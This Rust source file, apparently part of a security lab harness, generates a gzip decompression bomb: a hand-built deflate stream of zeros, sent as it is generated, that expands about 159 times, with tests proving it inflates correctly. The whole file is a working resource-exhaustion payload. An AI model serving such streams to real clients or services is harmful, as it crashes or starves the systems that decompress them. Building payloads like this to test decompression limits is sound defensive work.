//! A gzip bomb made by hand: a valid gzip stream of zeros that inflates about 159 times (one
//! fixed-Huffman deflate block of 258-byte back-references, 13 bits each), generated as it is
//! sent, so a multi-gigabyte payload costs the lab no memory and the repository no binary file.

use tokio::io::{AsyncWrite, AsyncWriteExt};

/// A gzip stream of zeros. `Copy`: it is a length, not data.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct GzipBomb {
    /// Repetitions of the 13-byte unit (8 back-references, 2,064 zeros).
    units: u64,
}

/// Zeros one unit inflates to.
const UNIT_INFLATED: u64 = 8 * 258;
/// One literal zero and the 8 back-references written before the repeating units.
const PREFIX_INFLATED: u64 = 1 + UNIT_INFLATED;
/// gzip member header: magic, deflate, no flags, no mtime, no extra flags, unknown OS.
const HEADER: [u8; 10] = [0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff];

impl GzipBomb {
    /// A bomb inflating to at least `bytes` zeros.
    pub fn inflating_to(bytes: u64) -> GzipBomb {
        GzipBomb { units: bytes.saturating_sub(PREFIX_INFLATED).div_ceil(UNIT_INFLATED) }
    }

    /// What the stream inflates to.
    pub fn inflated_len(&self) -> u64 {
        PREFIX_INFLATED + self.units * UNIT_INFLATED
    }

    /// The length of the gzip stream itself (its `Content-Length`).
    pub fn compressed_len(&self) -> u64 {
        let parts = Parts::new();
        (HEADER.len() + parts.prefix.len() + parts.tail.len() + 8) as u64 + self.units * parts.unit.len() as u64
    }

    /// Writes the whole stream to `out`, a batch of units at a time.
    pub async fn write_to<W: AsyncWrite + Unpin>(&self, out: &mut W) -> std::io::Result<()> {
        let parts = Parts::new();
        out.write_all(&HEADER).await?;
        out.write_all(&parts.prefix).await?;
        const BATCH: u64 = 4096;
        let batch = parts.unit.repeat(BATCH as usize);
        let mut left = self.units;
        while left > 0 {
            let n = left.min(BATCH);
            out.write_all(&batch[..n as usize * parts.unit.len()]).await?;
            left -= n;
        }
        out.write_all(&parts.tail).await?;
        out.write_all(&self.trailer()).await
    }

    /// The whole stream in memory (for small bombs in tests).
    pub fn to_vec(&self) -> Vec<u8> {
        let parts = Parts::new();
        let mut out = HEADER.to_vec();
        out.extend_from_slice(&parts.prefix);
        for _ in 0..self.units {
            out.extend_from_slice(&parts.unit);
        }
        out.extend_from_slice(&parts.tail);
        out.extend_from_slice(&self.trailer());
        out
    }

    /// CRC-32 and length (mod 2^32) of the inflated data, little-endian.
    fn trailer(&self) -> [u8; 8] {
        let len = self.inflated_len();
        let mut trailer = [0u8; 8];
        trailer[..4].copy_from_slice(&crc32_of_zeros(len).to_le_bytes());
        trailer[4..].copy_from_slice(&(len as u32).to_le_bytes());
        trailer
    }
}

/// The deflate block in three pieces: the start (block header, a literal zero and 8
/// back-references), the 13-byte unit that repeats (8 more back-references, which end on the
/// same bit offset they started at) and the end (end-of-block, padded to a byte).
struct Parts {
    prefix: Vec<u8>,
    unit: Vec<u8>,
    tail: Vec<u8>,
}

impl Parts {
    fn new() -> Parts {
        let mut bits = Bits::default();
        bits.put(1, 1); // BFINAL
        bits.put(1, 2); // BTYPE 01: fixed Huffman codes
        bits.code(0x30, 8); // literal 0x00
        let eight_matches = |bits: &mut Bits| {
            for _ in 0..8 {
                bits.code(0xc5, 8); // length symbol 285: 258 bytes
                bits.code(0, 5); // distance symbol 0: 1 byte back
            }
        };
        eight_matches(&mut bits);
        let prefix = bits.take();
        eight_matches(&mut bits);
        let unit = bits.take();
        bits.code(0, 7); // end of block (symbol 256)
        let tail = bits.finish();
        Parts { prefix, unit, tail }
    }
}

/// Deflate's bit order: values least significant bit first, Huffman codes most significant first.
#[derive(Default)]
struct Bits {
    done: Vec<u8>,
    acc: u32,
    count: u32,
}

impl Bits {
    fn put(&mut self, value: u32, len: u32) {
        for i in 0..len {
            self.acc |= ((value >> i) & 1) << self.count;
            self.count += 1;
            if self.count == 8 {
                self.done.push(self.acc as u8);
                self.acc = 0;
                self.count = 0;
            }
        }
    }

    fn code(&mut self, code: u32, len: u32) {
        let reversed = code.reverse_bits() >> (32 - len);
        self.put(reversed, len);
    }

    /// The complete bytes so far; a partial byte stays pending.
    fn take(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.done)
    }

    fn finish(mut self) -> Vec<u8> {
        if self.count > 0 {
            self.done.push(self.acc as u8);
        }
        self.done
    }
}

/// The reflected CRC-32 polynomial (gzip, zlib, Ethernet).
const POLY: u32 = 0xedb8_8320;

/// a·b modulo the CRC polynomial, in CRC-32's reflected representation (x⁰ is bit 31).
fn mult_mod_p(a: u32, mut b: u32) -> u32 {
    let mut product = 0;
    for bit in (0..32).rev() {
        if a & (1 << bit) != 0 {
            product ^= b;
        }
        b = if b & 1 != 0 { (b >> 1) ^ POLY } else { b >> 1 };
    }
    product
}

/// CRC-32 of `n` zero bytes, without reading them: the initial register times x^(8n).
fn crc32_of_zeros(mut n: u64) -> u32 {
    let mut power = 1u32 << 31; // x⁰
    let mut square = 1u32 << (31 - 8); // x⁸, one zero byte
    while n != 0 {
        if n & 1 != 0 {
            power = mult_mod_p(square, power);
        }
        square = mult_mod_p(square, square);
        n >>= 1;
    }
    mult_mod_p(power, 0xffff_ffff) ^ 0xffff_ffff
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;
    use std::process::{Command, Stdio};

    fn crc32_slow(data: &[u8]) -> u32 {
        let mut crc = 0xffff_ffffu32;
        for &byte in data {
            crc ^= u32::from(byte);
            for _ in 0..8 {
                crc = if crc & 1 != 0 { (crc >> 1) ^ POLY } else { crc >> 1 };
            }
        }
        !crc
    }

    #[test]
    fn crc_of_zeros_matches_the_bytewise_crc() {
        assert_eq!(crc32_of_zeros(0), 0);
        assert_eq!(crc32_of_zeros(1), 0xd202_ef8d);
        for n in [2, 7, 258, 1000, 65_537] {
            assert_eq!(crc32_of_zeros(n), crc32_slow(&vec![0; n as usize]), "{n} zeros");
        }
    }

    #[test]
    fn the_unit_repeats_on_the_same_bit_offset() {
        let parts = Parts::new();
        assert_eq!(parts.unit.len(), 13);
        let mut bits = Bits::default();
        bits.put(1, 1);
        bits.put(1, 2);
        bits.code(0x30, 8);
        for _ in 0..24 {
            bits.code(0xc5, 8);
            bits.code(0, 5);
        }
        let bytes = bits.take();
        assert_eq!(&bytes[..parts.prefix.len()], &parts.prefix[..]);
        assert_eq!(&bytes[parts.prefix.len()..][..13], &parts.unit[..]);
        assert_eq!(&bytes[parts.prefix.len() + 13..][..13], &parts.unit[..]);
    }

    #[test]
    fn gzip_inflates_it_to_the_promised_zeros() {
        let bomb = GzipBomb::inflating_to(1 << 20);
        let stream = bomb.to_vec();
        assert_eq!(stream.len() as u64, bomb.compressed_len());
        assert!(bomb.inflated_len() >= 1 << 20 && bomb.inflated_len() < (1 << 20) + UNIT_INFLATED);
        // The system's gzip checks the CRC and the length; it is the judge of a valid stream.
        let mut gzip = Command::new("gzip")
            .arg("-dc")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("gzip is installed");
        gzip.stdin.take().unwrap().write_all(&stream).unwrap();
        let out = gzip.wait_with_output().unwrap();
        assert!(out.status.success(), "gzip: {}", String::from_utf8_lossy(&out.stderr));
        assert_eq!(out.stdout.len() as u64, bomb.inflated_len());
        assert!(out.stdout.iter().all(|&b| b == 0));
    }

    #[test]
    fn ten_gibibytes_travel_in_under_seventy_mebibytes() {
        let bomb = GzipBomb::inflating_to(10 << 30);
        assert!(bomb.inflated_len() >= 10 << 30);
        assert!(bomb.compressed_len() < 70 << 20, "{}", bomb.compressed_len());
    }
}
